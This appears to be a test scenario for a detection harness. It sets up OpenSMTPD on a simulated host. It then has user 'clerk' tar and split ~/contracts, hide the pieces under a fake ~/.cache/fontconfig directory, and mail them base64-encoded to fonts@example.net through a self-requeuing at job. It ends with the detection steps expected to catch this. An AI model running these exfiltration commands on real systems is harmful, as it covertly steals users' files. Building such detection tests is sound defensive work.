# OpenSMTPD takes the pieces of an archive from a job of at.
title="Pieces of an archive mailed through OpenSMTPD by a chain of at jobs"
what="With clerk's login somebody packs ~/contracts, splits it into pieces of 60 kB and leaves a script in ~/.cache/fontconfig that mails one piece, encoded in the body, with sendmail and puts itself into the queue of at again. OpenSMTPD delivers the three pieces to a box at example.net."
host=mx1.example.org user=clerk daemons="cron atd sshd" audit_format=RAW
setup() {
  laid_over opensmtpd || return 1
  echo 'opensmtpd:x:118:118::/var/lib/opensmtpd/empty:/usr/sbin/nologin' >> /etc/passwd; echo 'opensmtpd:x:118:' >> /etc/group
  echo 'opensmtpq:x:119:119::/var/lib/opensmtpd/empty:/usr/sbin/nologin' >> /etc/passwd; echo 'opensmtpq:x:119:' >> /etc/group
  private /var/lib/opensmtpd; mkdir -p /var/lib/opensmtpd/empty /var/spool/smtpd /etc/mail; chmod 711 /var/spool/smtpd; chmod 755 /var/lib/opensmtpd /var/lib/opensmtpd/empty
  chown 0:119 /usr/sbin/smtpctl; chmod 2555 /usr/sbin/smtpctl
  echo example.org > /etc/mail/mailname
  cat > /etc/smtpd.conf <<CF
table aliases file:/etc/aliases
listen on $host_ip hostname $host
listen on 127.0.0.1
listen on socket
action "local" maildir alias <aliases>
action "out" relay src $host_ip helo $host
match from any for domain { "example.org", "$host" } action "local"
match from local for any action "out"
CF
  postfix() {
    case $1 in
      start) /usr/sbin/smtpd || return 1; wait_for 5 pgrep -x smtpd; mkdir -p /var/spool/postfix/pid; pgrep -x smtpd > "$base/out/smtpds"; head -1 "$base/out/smtpds" > /var/spool/postfix/pid/master.pid; cat "$base/out/smtpds" >> "$base/daemons" ;;
      stop) kill "$(cat /var/spool/postfix/pid/master.pid)"; sleep 0.5 ;;
    esac
  }
  mkdir -p /home/clerk/contracts; head -c 120000 /dev/urandom > /home/clerk/contracts/tender.odt; chown -R clerk: /home/clerk/contracts
}
act() {
  small_talk 2
  ssh_as clerk <<'L'
ls contracts
mkdir -p .cache/fontconfig/p
tar cJf - contracts | split -b 60000 - .cache/fontconfig/p/fc.
printf '#!/bin/sh\ncd ~/.cache/fontconfig/p || exit\nset -- fc.*\n[ -e "$1" ] || exit 0\n(echo "To: fonts@example.net"; echo "Subject: $1"; echo; base64 "$1") | /usr/sbin/sendmail -t\nrm "$1"\necho "sh $HOME/.cache/fontconfig/r" | at now + 1 minute 2>/dev/null\n' > .cache/fontconfig/r
echo "sh $HOME/.cache/fontconfig/r" | at now
L
  wait_log 'fonts@example.net.*result="\?Ok' 40
  small_talk 1
  wait_log_count 'fonts@example.net.*result="?Ok' 3 170
  sleep 2
}
truth() {
  exec_step pack 'split -b 60000 -' 'the archive is cut into pieces'
  exec_step queue 'at now' 'a job is queued'
  exec_step encode 'base64 fc.aa' 'the job encodes a piece'
  exec_step send '(sendmail|smtpctl).* -t' 'and hands it over'
  mail_step sent 'fonts@example.net.*result="?Ok' 'OpenSMTPD delivers it'
  exec_step again 'base64 fc.ab' 'the next piece'
}
